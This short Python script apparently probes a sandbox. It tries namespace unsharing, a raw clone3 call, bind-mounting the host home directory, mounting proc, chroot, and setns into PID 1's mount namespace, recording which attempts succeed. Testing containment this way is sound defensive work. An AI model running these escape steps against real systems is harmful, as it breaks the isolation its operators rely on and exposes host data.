"""Becomes root in namespaces of its own, mounts, changes its root: the way to more of the kernel."""

import ctypes
import os

from attack import HOST, OUTPUT, attempt

libc = ctypes.CDLL(None, use_errno=True)
NEWUSER, NEWNS, NEWPID, BIND = 0x10000000, 0x20000, 0x20000000, 4096


def called(result):
    return result == 0 and "done"


attempt(
    lambda: called(libc.unshare(NEWUSER)),
    lambda: called(libc.unshare(NEWNS)),
    lambda: called(libc.unshare(NEWPID)),
    lambda: libc.syscall(435, (ctypes.c_uint64 * 8)(NEWUSER), 64) > 0,
    lambda: called(libc.mount(HOST["home"].encode(), OUTPUT.encode(), None, BIND, None)),
    lambda: called(libc.mount(b"proc", OUTPUT.encode(), b"proc", 0, None)),
    lambda: called(libc.umount2(DATA, 2)) if (DATA := OUTPUT.encode()) else None,
    lambda: os.chroot(OUTPUT) or "another root",
    lambda: called(libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)),
)
